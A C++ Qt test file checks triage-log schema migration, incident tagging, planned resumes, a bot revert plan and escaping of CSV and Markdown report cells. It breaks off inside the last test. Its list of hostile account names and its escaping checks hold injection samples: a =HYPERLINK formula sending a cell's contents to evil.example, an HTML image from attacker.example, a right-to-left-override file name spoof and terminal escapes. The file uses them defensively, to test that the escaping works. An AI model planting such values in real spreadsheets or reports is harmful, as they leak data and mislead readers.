// Issue 15's models without a server or widgets: the triage log's schema
// version 3 (migrated from version 1), incident and operator tags, planned
// resumes, the revert rule (BotRevertPlan), the incident report and its
// escaped cells.

#include "models/bots/BotStore.h"
#include "models/incidents/BotRevertPlan.h"
#include "models/incidents/IncidentReport.h"
#include "models/incidents/ReportCells.h"
#include "models/triage/TriageLog.h"
#include "models/triage/TriageLogModel.h"

#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

#include <memory>

namespace {

QString uuid(int n)
{
    return QStringLiteral("00000000-0000-4000-8000-%1").arg(n, 12, 10, QLatin1Char('0'));
}

constexpr qint64 kT0 = 1'700'000'000'000; // 2023-11-14T22:13:20Z

BotStatusEntry row(int account, Platform platform, BotStatus status, TimestampMs updatedAt,
                   const QString &name = {})
{
    BotStatusEntry e;
    e.accountId = uuid(account);
    e.accountName = name.isEmpty() ? QStringLiteral("account%1").arg(account) : name;
    e.platform = platform;
    e.status = status;
    e.lastHeartbeatAt = updatedAt;
    e.updatedAt = updatedAt;
    return e;
}

BotKey keyOf(int account, Platform platform)
{
    BotStatusEntry e;
    e.accountId = uuid(account);
    e.platform = platform;
    return BotKey::fromEntry(e);
}

// Writes what BotSyncController writes for one toggle: the pending entry
// and (unless answer is Pending) its answer with the state it produced.
struct Writer
{
    TriageLog &log;

    qint64 action(int account, const QString &action, TriageEntry::Result answer,
                  qint64 producedUpdatedAt, const QString &origin = TriageOrigin::single(),
                  const QString &platform = QStringLiteral("TWITCH"), qint64 atMs = kT0)
    {
        TriageEntry e;
        e.atMs = atMs;
        e.kind = TriageKind::bot();
        e.accountId = uuid(account);
        e.accountName = QStringLiteral("account%1").arg(account);
        e.platform = platform;
        e.action = action;
        e.origin = origin;
        e.result = TriageEntry::Result::Pending;
        const qint64 pending = log.append(e);
        if (answer == TriageEntry::Result::Ok) {
            const QString status = action == TriageAction::pause() ? QStringLiteral("PAUSED")
                                                                   : QStringLiteral("ACTIVE");
            log.appendResult(pending, {}, status, {}, producedUpdatedAt);
        } else if (answer == TriageEntry::Result::Failed) {
            ApiError error;
            error.kind = ApiError::Kind::GraphQL;
            error.code = QStringLiteral("NO_CONNECTION");
            error.message = QStringLiteral("The bot has no connection.");
            log.appendResult(pending, error, {});
        }
        return pending;
    }
};

const BotRevertPlan::Item *itemFor(const BotRevertPlan &plan, int account,
                                   Platform platform = Platform::Twitch)
{
    for (const BotRevertPlan::Item &item : plan.items()) {
        if (item.accountId == uuid(account) && item.platform == platform)
            return &item;
    }
    return nullptr;
}

// The awkward names the sandbox's skew mode serves (tests/sandbox/lib/skew.mjs).
QStringList hostileNames()
{
    return {QStringLiteral("<b>Guild</b>"),
            QStringLiteral("Test</b><br><font color=green>(sandbox bot only)</font>"),
            QStringLiteral("stream\u202Egnp.exe"),
            QStringLiteral("\u0001soh_start"),
            QStringLiteral("<img src=\"//attacker.example/share/a.png\">"),
            QStringLiteral("=HYPERLINK(\"https://evil.example/?\"&B2,\"x\")"),
            QStringLiteral("[click](https://evil.example)"),
            QStringLiteral("\u001b[31mRedAlert\u001b[0m"),
            QStringLiteral("+1"),
            QStringLiteral("-2"),
            QStringLiteral("@SUM(A1)"),
            QStringLiteral("![x](https://evil.example/p.png)"),
            QStringLiteral("<@everyone>"),
            QStringLiteral("*bold* _it_ | pipe"),
            QString::fromUtf16(u"nul\u0000byte", 8)};
}

} // namespace

class TestIncidentModels final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { QStandardPaths::setTestModeEnabled(true); }
    void init();
    void cleanup();

    void schema_migratesVersion1_keepsEveryEntry();
    void schema_newerVersion_refused();
    void tags_incidentAndOperator_answersKeepTheirAction();
    void incident_survivesReopen_periodsAndNames();
    void incidentName_validation();
    void plannedResumes_storedSettledOnce_surviveReopen();
    void entriesWithAnswers_followsEveryAnswer();
    void revertPlan_eachRule();
    void revertPlan_heldNewsCounts();
    void reportCells_csvAndMarkdown();
    void report_timelineInUtc_hostileNamesEscaped();

private:
    std::unique_ptr<QTemporaryDir> m_dir;
    QString m_path;
};

void TestIncidentModels::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    m_path = m_dir->filePath(QStringLiteral("triage.sqlite"));
}

void TestIncidentModels::cleanup()
{
    m_dir.reset();
}

void TestIncidentModels::schema_migratesVersion1_keepsEveryEntry()
{
    // A version 1 file exactly as the previous release wrote it.
    {
        QSqlDatabase db =
            QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("v1"));
        db.setDatabaseName(m_path);
        QVERIFY(db.open());
        QSqlQuery q(db);
        const char *const v1[] = {
            "PRAGMA journal_mode=WAL",
            "CREATE TABLE entries ( id INTEGER PRIMARY KEY AUTOINCREMENT, at_ms INTEGER NOT NULL,"
            " profile TEXT NOT NULL DEFAULT '', kind TEXT NOT NULL, account_id TEXT,"
            " account_name TEXT, platform TEXT, guild_id TEXT, action TEXT NOT NULL,"
            " origin TEXT NOT NULL DEFAULT 'single',"
            " result TEXT NOT NULL CHECK (result IN ('ok', 'failed', 'pending')),"
            " server_message TEXT, detail TEXT, batch_id INTEGER,"
            " ref_id INTEGER REFERENCES entries(id))",
            "CREATE INDEX entries_at ON entries(at_ms)",
            "CREATE INDEX entries_ref ON entries(ref_id)",
            "CREATE TRIGGER entries_never_edited BEFORE UPDATE ON entries"
            " BEGIN SELECT RAISE(ABORT, 'triage log entries are never edited'); END",
            "CREATE TRIGGER entries_never_deleted BEFORE DELETE ON entries"
            " BEGIN SELECT RAISE(ABORT, 'triage log entries are never deleted'); END",
            "INSERT INTO entries (at_ms, profile, kind, account_id, account_name, platform, action,"
            " origin, result, batch_id) VALUES (1700000000000, 'Prod', 'bot',"
            " '00000000-0000-4000-8000-000000000001', 'old one', 'TWITCH', 'pause', 'bulk',"
            " 'pending', 3)",
            "INSERT INTO entries (at_ms, profile, kind, account_id, account_name, platform, action,"
            " origin, result, server_message, batch_id, ref_id) VALUES (1700000001000, 'Prod',"
            " 'bot', '00000000-0000-4000-8000-000000000001', 'old one', 'TWITCH', 'pause', 'bulk',"
            " 'ok', 'PAUSED', 3, 1)",
            "INSERT INTO entries (at_ms, profile, kind, guild_id, action, result, detail) VALUES"
            " (1700000002000, 'Prod', 'discord', '123456789012345678', 'guild_disconnected',"
            " 'pending', 'A guild')",
            "PRAGMA user_version = 1",
        };
        for (const char *sql : v1)
            QVERIFY2(q.exec(QLatin1String(sql)), qPrintable(q.lastError().text()));
        q.finish();
        db.close();
    }
    QSqlDatabase::removeDatabase(QStringLiteral("v1"));

    {
        TriageLog log;
        QVERIFY2(log.open(m_path), qPrintable(log.errorString()));
        // Every old entry, as it was.
        const QList<TriageEntry> entries = log.entries({});
        QCOMPARE(entries.size(), 3);
        const TriageEntry pending = log.entry(1);
        QCOMPARE(pending.accountName, QStringLiteral("old one"));
        QCOMPARE(pending.origin, TriageOrigin::bulk());
        QCOMPARE(pending.batchId, 3);
        QVERIFY(pending.answered);
        QVERIFY(pending.incident.isEmpty());
        QVERIFY(pending.operatorName.isEmpty());
        const TriageEntry answer = log.entry(2);
        QCOMPARE(answer.result, TriageEntry::Result::Ok);
        QCOMPARE(answer.serverMessage, QStringLiteral("PAUSED"));
        QCOMPARE(answer.refId, 1);
        QCOMPARE(answer.serverUpdatedAtMs, 0);
        QCOMPARE(log.entry(3).guildId, QStringLiteral("123456789012345678"));
        QCOMPARE(log.incident(), QString());
        QCOMPARE(log.integrityCheck(), QStringLiteral("ok"));

        // New entries carry the new columns.
        log.setOperator(QStringLiteral("Ana"), QStringLiteral("user-7"));
        QVERIFY(log.startIncident(QStringLiteral("INC-1")));
        TriageEntry e;
        e.kind = TriageKind::bot();
        e.action = TriageAction::pause();
        e.result = TriageEntry::Result::Pending;
        const qint64 id = log.append(e);
        QVERIFY(id > 3);
        QCOMPARE(log.entry(id).incident, QStringLiteral("INC-1"));
        QCOMPARE(log.entry(id).operatorId, QStringLiteral("user-7"));
        log.appendResult(id, {}, QStringLiteral("PAUSED"), {}, kT0 + 5);
        QCOMPARE(log.entries({}).first().serverUpdatedAtMs, kT0 + 5);
    }

    // Version 3 on disk; the old entries still refuse edits.
    QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("raw"));
    db.setDatabaseName(m_path);
    QVERIFY(db.open());
    {
        QSqlQuery q(db);
        QVERIFY(q.exec(QStringLiteral("PRAGMA user_version")) && q.next());
        QCOMPARE(q.value(0).toInt(), TriageLog::kSchemaVersion);
        QCOMPARE(TriageLog::kSchemaVersion, 3);
        QVERIFY(!q.exec(QStringLiteral("UPDATE entries SET incident = 'x' WHERE id = 1")));
        QVERIFY2(q.lastError().text().contains(QLatin1String("never edited")),
                 qPrintable(q.lastError().text()));
        QVERIFY(!q.exec(QStringLiteral("DELETE FROM entries WHERE id = 1")));
        QVERIFY(q.exec(QStringLiteral("SELECT COUNT(*) FROM planned_resumes")) && q.next());
        QCOMPARE(q.value(0).toInt(), 0);
    }
    db.close();
    db = QSqlDatabase();
    QSqlDatabase::removeDatabase(QStringLiteral("raw"));

    // Opening a version 3 file again changes nothing.
    TriageLog again;
    QVERIFY(again.open(m_path));
    QCOMPARE(again.entries({}).size(), 3 + 3); // marker, pending, answer
    QCOMPARE(again.incident(), QStringLiteral("INC-1"));
}

void TestIncidentModels::schema_newerVersion_refused()
{
    {
        TriageLog log;
        QVERIFY(log.open(m_path));
    }
    {
        QSqlDatabase db =
            QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("v3"));
        db.setDatabaseName(m_path);
        QVERIFY(db.open());
        QSqlQuery q(db);
        QVERIFY(q.exec(QStringLiteral("PRAGMA user_version = %1").arg(TriageLog::kSchemaVersion + 1)));
        q.finish();
        db.close();
    }
    QSqlDatabase::removeDatabase(QStringLiteral("v3"));
    TriageLog log;
    QVERIFY(!log.open(m_path));
    QVERIFY2(log.errorString().contains(QLatin1String("newer")), qPrintable(log.errorString()));
}

void TestIncidentModels::tags_incidentAndOperator_answersKeepTheirAction()
{
    TriageLog log;
    QVERIFY(log.open(m_path));
    log.setProfile(QStringLiteral("Prod"));
    log.setOperator(QStringLiteral("Ana"), QStringLiteral("u1"));
    Writer w {log};

    const qint64 before = w.action(1, TriageAction::pause(), TriageEntry::Result::Pending, 0);
    QVERIFY(log.startIncident(QStringLiteral("  INC-2291 ")));
    QCOMPARE(log.incident(), QStringLiteral("INC-2291"));
    const qint64 during = w.action(2, TriageAction::pause(), TriageEntry::Result::Pending, 0);
    // An answer belongs to its action: the one sent before the incident
    // stays untagged even though it is answered during it.
    log.appendResult(before, {}, QStringLiteral("PAUSED"), {}, kT0);
    QVERIFY(log.entries({}).first().incident.isEmpty());
    QCOMPARE(log.entry(during).incident, QStringLiteral("INC-2291"));
    QCOMPARE(log.entry(during).operatorName, QStringLiteral("Ana"));
    QCOMPARE(log.entry(during).operatorId, QStringLiteral("u1"));

    // A follow-up origin belongs to the incident it follows up.
    log.setIncidentForOrigin(TriageOrigin::incidentRevert(), QStringLiteral("INC-2000"));
    const qint64 revert = w.action(3, TriageAction::resume(), TriageEntry::Result::Pending, 0,
                                   TriageOrigin::incidentRevert());
    QCOMPARE(log.entry(revert).incident, QStringLiteral("INC-2000"));

    QVERIFY(log.closeIncident());
    QVERIFY(log.incident().isEmpty());
    QVERIFY(!log.closeIncident());
    // Answered after the close: still the incident's.
    log.appendResult(during, {}, QStringLiteral("PAUSED"), {}, kT0 + 1);
    QCOMPARE(log.entries({}).first().incident, QStringLiteral("INC-2291"));
    QCOMPARE(log.entries({}).first().operatorName, QStringLiteral("Ana"));
    const qint64 after = w.action(4, TriageAction::pause(), TriageEntry::Result::Pending, 0);
    QVERIFY(log.entry(after).incident.isEmpty());

    // The query by incident finds the action, its answer and both markers.
    TriageLog::Query q;
    q.incident = QStringLiteral("INC-2291");
    const QList<TriageEntry> tagged = log.entries(q);
    QCOMPARE(tagged.size(), 4);
    QStringList kinds;
    for (const TriageEntry &e : tagged)
        kinds.append(e.kind + QLatin1Char('/') + e.action);
    QCOMPARE(
        kinds,
        QStringList({QStringLiteral("bot/pause"), QStringLiteral("incident/incident_closed"),
                     QStringLiteral("bot/pause"), QStringLiteral("incident/incident_started")}));
    // The model shows the incident and who did it.
    TriageLogModel model(&log);
    const int row = [&] {
        for (int r = 0; r < model.rowCount(); ++r) {
            if (model.entryAt(r).id == during)
                return r;
        }
        return -1;
    }();
    QVERIFY(row >= 0);
    QCOMPARE(model.index(row, TriageLogModel::IncidentColumn).data().toString(),
             QStringLiteral("INC-2291"));
    QCOMPARE(model.index(row, TriageLogModel::OperatorColumn).data().toString(),
             QStringLiteral("Ana"));
    // The text filter finds entries by incident too.
    model.setFilter(std::numeric_limits<qint64>::min(), std::numeric_limits<qint64>::max(),
                    QStringLiteral("inc-2291"));
    QCOMPARE(model.rowCount(), 4);
}

void TestIncidentModels::incident_survivesReopen_periodsAndNames()
{
    {
        TriageLog log;
        QVERIFY(log.open(m_path));
        log.setOperator(QStringLiteral("Ana"), {});
        QVERIFY(log.startIncident(QStringLiteral("INC-1")));
        QVERIFY(log.startIncident(QStringLiteral("INC-1"))); // already open: nothing new
        QCOMPARE(log.entries({}).size(), 1);
        QVERIFY(log.startIncident(QStringLiteral("INC-2"))); // closes INC-1
        QCOMPARE(log.entries({}).size(), 3);
    }
    {
        // A restart (or a crash) keeps the open incident.
        TriageLog log;
        QVERIFY(log.open(m_path));
        QCOMPARE(log.incident(), QStringLiteral("INC-2"));
        log.setOperator(QStringLiteral("Bob"), {});
        QVERIFY(log.closeIncident());
        QVERIFY(log.startIncident(QStringLiteral("INC-1"))); // reopened under the same name
        QCOMPARE(log.incidentNames(),
                 QStringList({QStringLiteral("INC-1"), QStringLiteral("INC-2")}));
        const QList<TriageLog::IncidentPeriod> periods =
            log.incidentPeriods(QStringLiteral("INC-1"));
        QCOMPARE(periods.size(), 2);
        QCOMPARE(periods.at(0).startedBy, QStringLiteral("Ana"));
        QVERIFY(periods.at(0).closedAtMs >= periods.at(0).startedAtMs);
        QCOMPARE(periods.at(0).closedBy, QStringLiteral("Ana"));
        QCOMPARE(periods.at(1).startedBy, QStringLiteral("Bob"));
        QCOMPARE(periods.at(1).closedAtMs, 0);
    }
    TriageLog log;
    QVERIFY(log.open(m_path));
    QCOMPARE(log.incident(), QStringLiteral("INC-1"));
}

void TestIncidentModels::incidentName_validation()
{
    QCOMPARE(TriageLog::normalizedIncidentName(QStringLiteral("  INC-2291\t")),
             QStringLiteral("INC-2291"));
    QCOMPARE(TriageLog::normalizedIncidentName(QStringLiteral("Störung 12 / DB")),
             QStringLiteral("Störung 12 / DB"));
    QCOMPARE(TriageLog::normalizedIncidentName(QStringLiteral("حادث ٤٢")),
             QStringLiteral("حادث ٤٢"));
    QVERIFY(TriageLog::normalizedIncidentName(QString()).isEmpty());
    QVERIFY(TriageLog::normalizedIncidentName(QStringLiteral("   ")).isEmpty());
    QVERIFY(TriageLog::normalizedIncidentName(QStringLiteral("a\nb")).isEmpty());
    QVERIFY(TriageLog::normalizedIncidentName(QStringLiteral("stream\u202Egnp")).isEmpty());
    QVERIFY(TriageLog::normalizedIncidentName(QStringLiteral("bell\u0007")).isEmpty());
    QVERIFY(TriageLog::normalizedIncidentName(
                QString(TriageLog::kMaxIncidentName + 1, QLatin1Char('x')))
                .isEmpty());
    QCOMPARE(
        TriageLog::normalizedIncidentName(QString(TriageLog::kMaxIncidentName, QLatin1Char('x')))
            .size(),
        TriageLog::kMaxIncidentName);
    TriageLog log;
    QVERIFY(log.open(m_path));
    QVERIFY(!log.startIncident(QStringLiteral("a\u0000b")));
    QVERIFY(log.incident().isEmpty());
    QCOMPARE(log.entries({}).size(), 0);
}

void TestIncidentModels::plannedResumes_storedSettledOnce_surviveReopen()
{
    qint64 id = 0;
    QList<qint64> pauses;
    {
        TriageLog log;
        QVERIFY(log.open(m_path));
        log.setProfile(QStringLiteral("Prod"));
        log.setOperator(QStringLiteral("Ana"), {});
        Writer w {log};
        pauses = {w.action(1, TriageAction::pause(), TriageEntry::Result::Ok, kT0,
                           TriageOrigin::pauseFor()),
                  w.action(2, TriageAction::pause(), TriageEntry::Result::Ok, kT0,
                           TriageOrigin::pauseFor())};
        PlannedResume plan;
        plan.dueAtMs = kT0 + 15 * 60 * 1000;
        plan.incident = QStringLiteral("INC-9");
        plan.pauseEntryIds = pauses;
        id = log.addPlannedResume(plan);
        QVERIFY(id > 0);
        QVERIFY(log.addPlannedResume(PlannedResume {}) == 0); // no bots, no plan
    }
    TriageLog log;
    QVERIFY(log.open(m_path));
    QList<PlannedResume> open = log.plannedResumes();
    QCOMPARE(open.size(), 1);
    QCOMPARE(open.first().id, id);
    QCOMPARE(open.first().profile, QStringLiteral("Prod"));
    QCOMPARE(open.first().operatorName, QStringLiteral("Ana"));
    QCOMPARE(open.first().incident, QStringLiteral("INC-9"));
    QCOMPARE(open.first().dueAtMs, kT0 + 15 * 60 * 1000);
    QCOMPARE(open.first().pauseEntryIds, pauses);
    QCOMPARE(open.first().state, PlannedResume::State::Open);

    QVERIFY(log.settlePlannedResume(id, PlannedResume::State::Resumed));
    QVERIFY(!log.settlePlannedResume(id, PlannedResume::State::Dismissed)); // settled once
    QVERIFY(log.plannedResumes().isEmpty());
    const QList<PlannedResume> all = log.plannedResumes(true);
    QCOMPARE(all.size(), 1);
    QCOMPARE(all.first().state, PlannedResume::State::Resumed);
    QVERIFY(all.first().settledAtMs > 0);

    // Even by hand, a settled plan does not move.
    QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("raw2"));
    db.setDatabaseName(m_path);
    QVERIFY(db.open());
    {
        QSqlQuery q(db);
        QVERIFY(!q.exec(QStringLiteral("UPDATE planned_resumes SET state = 'open'")));
        QVERIFY2(q.lastError().text().contains(QLatin1String("settled once")),
                 qPrintable(q.lastError().text()));
    }
    db.close();
    db = QSqlDatabase();
    QSqlDatabase::removeDatabase(QStringLiteral("raw2"));
}

void TestIncidentModels::entriesWithAnswers_followsEveryAnswer()
{
    TriageLog log;
    QVERIFY(log.open(m_path));
    Writer w {log};
    const qint64 a = w.action(1, TriageAction::pause(), TriageEntry::Result::Ok, kT0);
    const qint64 b = w.action(2, TriageAction::pause(), TriageEntry::Result::Pending, 0);
    w.action(3, TriageAction::pause(), TriageEntry::Result::Ok, kT0); // not asked for
    // An answer to an answer (a settled outcome refers to the first answer).
    TriageEntry settle = log.entry(a + 1);
    QCOMPARE(settle.refId, a);
    settle.id = 0;
    settle.atMs = 0;
    settle.refId = a + 1;
    const qint64 second = log.append(settle);
    // More ids than one chunk of bound values.
    QList<qint64> ids;
    for (int i = 0; i < 1200; ++i)
        ids.append(100000 + i);
    ids.append(a);
    ids.append(b);
    const QList<TriageEntry> story = log.entriesWithAnswers(ids);
    QList<qint64> got;
    for (const TriageEntry &e : story)
        got.append(e.id);
    QCOMPARE(got, QList<qint64>({a, a + 1, b, second}));
}

void TestIncidentModels::revertPlan_eachRule()
{
    TriageLog log;
    QVERIFY(log.open(m_path));
    log.setProfile(QStringLiteral("Prod"));
    Writer w {log};
    BotStore store;
    store.setFlushInterval(0);
    const TimestampMs t = kT0;
    QList<BotStatusEntry> rows;
    // 1: paused by the incident, untouched since -> resume.
    rows.append(row(1, Platform::Twitch, BotStatus::Paused, t + 1));
    w.action(1, TriageAction::pause(), TriageEntry::Result::Ok, t + 1);
    // 2: paused, then someone resumed it -> changed since.
    rows.append(row(2, Platform::Twitch, BotStatus::Active, t + 50));
    w.action(2, TriageAction::pause(), TriageEntry::Result::Ok, t + 2);
    // 3: paused, resumed and paused again by someone else -> updated since.
    rows.append(row(3, Platform::Twitch, BotStatus::Paused, t + 60));
    w.action(3, TriageAction::pause(), TriageEntry::Result::Ok, t + 3);
    // 4: the pause failed.
    rows.append(row(4, Platform::Twitch, BotStatus::Active, t - 100));
    w.action(4, TriageAction::pause(), TriageEntry::Result::Failed, 0);
    // 5: no answer ever came.
    rows.append(row(5, Platform::Twitch, BotStatus::Paused, t + 5));
    w.action(5, TriageAction::pause(), TriageEntry::Result::Pending, 0);
    // 6: paused and resumed within the incident -> nothing to put back.
    rows.append(row(6, Platform::Twitch, BotStatus::Active, t + 7));
    w.action(6, TriageAction::pause(), TriageEntry::Result::Ok, t + 6);
    w.action(6, TriageAction::resume(), TriageEntry::Result::Ok, t + 7, TriageOrigin::undo());
    // 7: resumed by the incident, untouched -> pause.
    rows.append(row(7, Platform::Twitch, BotStatus::Active, t + 8));
    w.action(7, TriageAction::resume(), TriageEntry::Result::Ok, t + 8);
    // 8: no longer on the server.
    w.action(8, TriageAction::pause(), TriageEntry::Result::Ok, t + 9);
    // 9: only reconnected.
    rows.append(row(9, Platform::Twitch, BotStatus::Active, t));
    w.action(9, TriageAction::reconnect(), TriageEntry::Result::Ok, 0);
    // 10: already reverted by an earlier revert.
    rows.append(row(10, Platform::Twitch, BotStatus::Active, t + 11));
    w.action(10, TriageAction::pause(), TriageEntry::Result::Ok, t + 10);
    w.action(10, TriageAction::resume(), TriageEntry::Result::Ok, t + 11,
             TriageOrigin::incidentRevert());
    // 11: an answer from a version that did not record updatedAt.
    rows.append(row(11, Platform::Twitch, BotStatus::Paused, t + 12));
    w.action(11, TriageAction::pause(), TriageEntry::Result::Ok, 0);
    // 12: on a YouTube row of account 1 too (keys are per platform).
    rows.append(row(1, Platform::YouTube, BotStatus::Paused, t + 13));
    w.action(1, TriageAction::pause(), TriageEntry::Result::Ok, t + 13, TriageOrigin::bulk(),
             QStringLiteral("YOUTUBE"));
    // 13: a row whose request is in flight now.
    rows.append(row(13, Platform::Twitch, BotStatus::Paused, t + 14));
    w.action(13, TriageAction::pause(), TriageEntry::Result::Ok, t + 14);
    // 14: a platform this version does not know, as logged by a newer one.
    w.action(14, TriageAction::pause(), TriageEntry::Result::Ok, t + 15, TriageOrigin::single(),
             QStringLiteral("RUMBLE"));
    store.mergeSnapshot(rows);
    store.flush();
    QVERIFY(store.beginPending(keyOf(13, Platform::Twitch), PendingAction::Resume));
    // On another profile, same account: left to that profile.
    log.setProfile(QStringLiteral("Staging"));
    w.action(1, TriageAction::pause(), TriageEntry::Result::Ok, t + 1, TriageOrigin::single(),
             QStringLiteral("KICK"));
    // A Discord change: counted, not reverted.
    TriageEntry discord;
    discord.kind = TriageKind::discord();
    discord.guildId = QStringLiteral("123456789012345678");
    discord.action = TriageAction::mappingSaved();
    discord.result = TriageEntry::Result::Pending;
    log.appendResult(log.append(discord), {}, QStringLiteral("saved"));

    const BotRevertPlan plan = BotRevertPlan::build(log.entries({}), store, QStringLiteral("Prod"),
                                                    TriageOrigin::incidentRevert());
    using Skip = BotRevertPlan::Skip;
    const auto expect = [&](int account, Skip skip, PendingAction revert,
                            Platform platform = Platform::Twitch) {
        const BotRevertPlan::Item *item = itemFor(plan, account, platform);
        QVERIFY2(item, qPrintable(QStringLiteral("no item for %1").arg(account)));
        QCOMPARE(item->skip, skip);
        QCOMPARE(item->revert, revert);
        QCOMPARE(BotRevertPlan::skipText(*item).isEmpty(), skip == Skip::None);
    };
    expect(1, Skip::None, PendingAction::Resume);
    expect(2, Skip::ChangedSince, PendingAction::None);
    expect(3, Skip::UpdatedSince, PendingAction::None);
    expect(4, Skip::ActionFailed, PendingAction::None);
    expect(5, Skip::NoAnswer, PendingAction::None);
    expect(6, Skip::NoNetChange, PendingAction::None);
    expect(7, Skip::None, PendingAction::Pause);
    expect(8, Skip::NotFound, PendingAction::None);
    expect(9, Skip::NotReversible, PendingAction::None);
    expect(10, Skip::AlreadyReverted, PendingAction::None);
    expect(11, Skip::NoStateRecorded, PendingAction::None);
    expect(1, Skip::None, PendingAction::Resume, Platform::YouTube);
    expect(13, Skip::InFlight, PendingAction::None);
    expect(14, Skip::NotFound, PendingAction::None, platformFromWire(QStringLiteral("RUMBLE")));
    expect(1, Skip::OtherProfile, PendingAction::None, Platform::Kick);
    QCOMPARE(plan.items().size(), 15);
    QCOMPARE(plan.discordChanges(), 1);
    QCOMPARE(plan.count(PendingAction::Resume), 2);
    QCOMPARE(plan.count(PendingAction::Pause), 1);
    QCOMPARE(plan.skippedCount(), 12);
    QCOMPARE(plan.keys(PendingAction::Resume),
             QList<BotKey>({keyOf(1, Platform::Twitch), keyOf(1, Platform::YouTube)}));
    QCOMPARE(plan.keys(PendingAction::Pause), QList<BotKey>({keyOf(7, Platform::Twitch)}));
    QVERIFY2(BotRevertPlan::skipText(*itemFor(plan, 4)).contains(QLatin1String("no connection")),
             qPrintable(BotRevertPlan::skipText(*itemFor(plan, 4))));
    QVERIFY2(BotRevertPlan::skipText(*itemFor(plan, 2)).contains(QLatin1String("Active")),
             qPrintable(BotRevertPlan::skipText(*itemFor(plan, 2))));
    QVERIFY2(plan.summary().contains(QLatin1String("resume 2 bots and pause 1 bot")),
             qPrintable(plan.summary()));
    // Interned, not dropped: the raw value comes back (issue 13).
    const Platform rumble = platformFromWire(QStringLiteral("RUMBLE"));
    QVERIFY(rumble != Platform::Unknown);
    QVERIFY(itemFor(plan, 14, rumble));
    QCOMPARE(itemFor(plan, 14, rumble)->platformWire, QStringLiteral("RUMBLE"));

    // Run again after the revert went through: those are done.
    const BotRevertPlan none =
        BotRevertPlan::build({}, store, QStringLiteral("Prod"), TriageOrigin::incidentRevert());
    QVERIFY(none.isEmpty());
    QCOMPARE(none.summary(), QStringLiteral("Nothing to put back."));
}

void TestIncidentModels::revertPlan_heldNewsCounts()
{
    // Frozen (z): news held aside is still news for the revert.
    TriageLog log;
    QVERIFY(log.open(m_path));
    log.setProfile(QStringLiteral("Prod"));
    Writer w {log};
    BotStore store;
    store.setFlushInterval(0);
    store.mergeSnapshot({row(1, Platform::Twitch, BotStatus::Paused, kT0)});
    store.flush();
    w.action(1, TriageAction::pause(), TriageEntry::Result::Ok, kT0);
    auto plan = [&] {
        return BotRevertPlan::build(log.entries({}), store, QStringLiteral("Prod"),
                                    TriageOrigin::incidentRevert());
    };
    QCOMPARE(plan().count(PendingAction::Resume), 1);
    store.setHeld(true);
    store.applyEvents({row(1, Platform::Twitch, BotStatus::Paused, kT0 + 500)});
    QCOMPARE(store.row(0).updatedAt, kT0); // the table still shows the old moment
    QCOMPARE(plan().count(PendingAction::Resume), 0);
    QCOMPARE(plan().items().first().skip, BotRevertPlan::Skip::UpdatedSince);
    store.setHeld(false);
    QCOMPARE(plan().items().first().skip, BotRevertPlan::Skip::UpdatedSince);
}

void TestIncidentModels::reportCells_csvAndMarkdown()
{
    using namespace ReportCells;
    QCOMPARE(csv(QStringLiteral("plain")), QStringLiteral("plain"));
    QCOMPARE(csv(QStringLiteral("=1+2")), QStringLiteral("'=1+2"));
    QCOMPARE(csv(QStringLiteral("+1")), QStringLiteral("'+1"));
    QCOMPARE(csv(QStringLiteral("-2")), QStringLiteral("'-2"));
    QCOMPARE(csv(QStringLiteral("@SUM(A1)")), QStringLiteral("'@SUM(A1)"));
    QCOMPARE(csv(QStringLiteral("\tx")), QStringLiteral("'\tx"));
    QCOMPARE(csv(QStringLiteral("\rx")), QStringLiteral("\"'\rx\""));
    QCOMPARE(csv(QStringLiteral("=HYPERLINK(\"a\",\"b\")")),
             QStringLiteral("\"'=HYPERLINK(\"\"a\"\",\"\"b\"\")\""));
    QCOMPARE(csv(QStringLiteral("a,b")), QStringLiteral("\"a,b\""));
    QCOMPARE(csv(QStringLiteral("a = b")), QStringLiteral("a = b"));
    QCOMPARE(csv(QString()), QString());
    // Terminal escapes and NUL are shown, never passed on.
    QCOMPARE(csv(QStringLiteral("\u001b[31mX")), QStringLiteral("\u241b[31mX"));
    QCOMPARE(csv(QString::fromUtf16(u"a\u0000b", 3)), QStringLiteral("a\u2400b"));
    QCOMPARE(csv(QStringLiteral("stream\u202Egnp.exe")), QStringLiteral("stream[U+202E]gnp.exe"));
    QCOMPARE(visible(QStringLiteral("ab\u200Dc")), QStringLiteral("ab\u200Dc")); // ZWJ is writing

    QCOMPARE(markdown(QStringLiteral("acme live")), QStringLiteral("acme live"));
    QCOMPARE(markdown(QStringLiteral("a|b")), QStringLiteral("a\\|b"));
    QCOMPARE(markdown(QStringLiteral("<b>x</b>")), QStringLiteral("\\<b\\>x\\</b\\>"));
    QCOMPARE(markdown(QStringLiteral("[click](https://evil.example)")),
             QStringLiteral("\\[click\\]\\(https\\://evil.example\\)"));
    QCOMPARE(markdown(QStringLiteral("see www.evil.example")),
             QStringLiteral("see www\\.evil.example"));
    QCOMPARE(markdown(QStringLiteral("*bold* _it_")), QStringLiteral("\\*bold\\* \\_it\\_"));
    QCOMPARE(markdown(QStringLiteral("<@everyone>")), QStringLiteral("\\<\\@everyone\\>"));
    QCOMPARE(markdown(QStringLiteral("one\r\ntwo\nthree")), QStringLiteral("one<br/>two<br/>three"));
    QCOMPARE(markdown(QStringLiteral("a\\b")), QStringLiteral("a\\\\b"));
    QCOMPARE(markdown(QStringLiteral("`code` ~x~ &amp;")),
             QStringLiteral("\\`code\\` \\~x\\~ \\&amp;"));
}

void TestIncidentModels::report_timelineInUtc_hostileNamesEscaped()
{
    TriageLog log;
    QVERIFY(log.open(m_path));
    log.setProfile(QStringLiteral("=Prod|EU"));
    log.setOperator(QStringLiteral("<b>Ana</b>"), QStringLiteral("user-1"));
    QVERIFY(log.startIncident(QStringLiteral("INC-2291")));
    const QStringList names = hostileNames();
    qint64 at = kT0;
    QList<qint64> pendings;
    for (int i = 0; i < names.size(); ++i) {
        TriageEntry e;
        e.atMs = at + i * 1000;
        e.kind = TriageKind::bot();
        e.accountId = uuid(i + 1);
        e.accountName = names.at(i);
